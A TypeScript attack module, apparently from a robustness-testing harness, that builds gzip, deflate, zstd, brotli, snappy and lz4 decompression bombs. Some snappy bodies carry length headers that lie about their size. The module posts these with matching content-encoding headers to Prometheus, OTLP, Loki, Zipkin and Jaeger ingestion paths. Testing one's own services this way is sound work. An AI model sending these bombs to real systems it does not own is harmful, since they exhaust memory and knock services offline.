/** Bodies that expand: bombs of every coding at every way in, lengths that lie, gzip in gzip, many gzip members. */

import zlib from 'node:zlib';
import { type Attack, repeat, type Strike } from '../attack.ts';
import { request } from '../send.ts';

const ZEROS = Buffer.alloc(4 * 1024 * 1024);
const WAYS_IN: readonly (readonly [path: string, type: string])[] = [
  ['/api/v1/write', 'application/x-protobuf'],
  ['/api/v1/otlp/v1/metrics', 'application/x-protobuf'],
  ['/v1/metrics', 'application/x-protobuf'],
  ['/v1/logs', 'application/json'],
  ['/v1/traces', 'application/x-protobuf'],
  ['/otlp/v1/logs', 'application/x-protobuf'],
  ['/loki/api/v1/push', 'application/json'],
  ['/loki/api/v1/push', 'application/x-protobuf'],
  ['/api/prom/push', 'application/json'],
  ['/api/v2/spans', 'application/json'],
  ['/api/traces', 'application/x-thrift'],
  ['/api/v1/read', 'application/x-protobuf'],
];

/** A gzip that expands to `mib` MiB of zeros: members one after another, made without holding them. */
function manyMembers(mib: number): Buffer {
  return once(`members ${mib}`, () => {
    const member = zlib.gzipSync(ZEROS);
    return Buffer.concat(Array.from({ length: Math.ceil(mib / 4) }, () => member));
  });
}

function oneMember(mib: number, pack: (raw: Buffer) => Buffer): Buffer {
  return once(`${pack} ${mib}`, () => pack(Buffer.alloc(mib * 1024 * 1024)));
}

/** A varint of any length of bytes that the body is said to have, and a body behind it that has less, or more. */
function lyingSnappy(declared: number, rest: Buffer): Buffer {
  const head: number[] = [];
  let left = declared;
  for (; left > 0x7f; left = Math.floor(left / 128)) head.push((left % 128) | 0x80);
  head.push(left);
  return Buffer.concat([Buffer.from(head), rest]);
}

/** Copies of 64 bytes, three bytes each: 21 times what is sent. */
function snappyBomb(mib: number): Buffer {
  const copies = Math.floor((mib * 1024 * 1024) / 64) - 1;
  const body = Buffer.alloc(copies * 3);
  for (let i = 0; i < copies; i++) body.set([0xfe, 0x01, 0x00], i * 3);
  return lyingSnappy(64 + copies * 64, Buffer.concat([Buffer.from([63 << 2]), Buffer.alloc(64), body]));
}

type Bomb = readonly [coding: string, make: (strike: Strike) => Buffer];

const BOMBS: readonly Bomb[] = [
  ['gzip', ({ random }) => manyMembers(random.pick([64, 300, 1200]))],
  ['gzip', ({ random }) => oneMember(random.pick([1, 40, 120]), (raw) => zlib.gzipSync(raw))],
  ['gzip', () => once('twice', () => zlib.gzipSync(zlib.gzipSync(ZEROS)))],
  ['gzip, gzip', () => once('twice', () => zlib.gzipSync(zlib.gzipSync(ZEROS)))],
  ['deflate', ({ random }) => oneMember(random.pick([1, 40, 120]), (raw) => zlib.deflateSync(raw))],
  ['deflate', () => oneMember(40, (raw) => zlib.deflateRawSync(raw))],
  ['zstd', ({ random }) => oneMember(random.pick([1, 40, 200]), (raw) => zlib.zstdCompressSync(raw))],
  ['zstd', () => once('frames', () => Buffer.concat(new Array(100).fill(zlib.zstdCompressSync(ZEROS))))],
  ['br', () => zlib.brotliCompressSync(ZEROS, { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 1 } })],
  ['snappy', ({ random }) => once('snappy', () => snappyBomb(random.pick([8, 60, 120])))],
  ['snappy', ({ random }) => lyingSnappy(random.pick([2 ** 28, 2 ** 32 - 1, 2 ** 40]), random.bytes(64))],
  ['snappy', ({ random }) => lyingSnappy(100, random.bytes(3000))],
  [
    'lz4',
    ({ random }) => Buffer.concat([Buffer.from([4, 0x22, 0x4d, 0x18, 0x60, 0x70, 0x73]), random.bytes(5000)]),
  ],
  [
    'x-snappy-framed',
    ({ random }) => Buffer.concat([Buffer.from('ff060000734e61507059', 'hex'), random.bytes(500)]),
  ],
];

/** Made once: making them is more work than sending them. */
const made = new Map<string, Buffer>();

function once(name: string, make: () => Buffer): Buffer {
  const known = made.get(name) ?? make();
  made.set(name, known);
  return known;
}

export const compressionBombs: Attack = {
  name: 'compression-bombs',
  strike: (strike) =>
    repeat(strike, 6, async () => {
      const [coding, make] = strike.random.pick(BOMBS);
      const [path, type] = strike.random.pick(WAYS_IN);
      const body = make(strike);
      const headers = { 'content-type': type, 'content-encoding': coding };
      await request(strike, { path, headers, body });
    }),
};
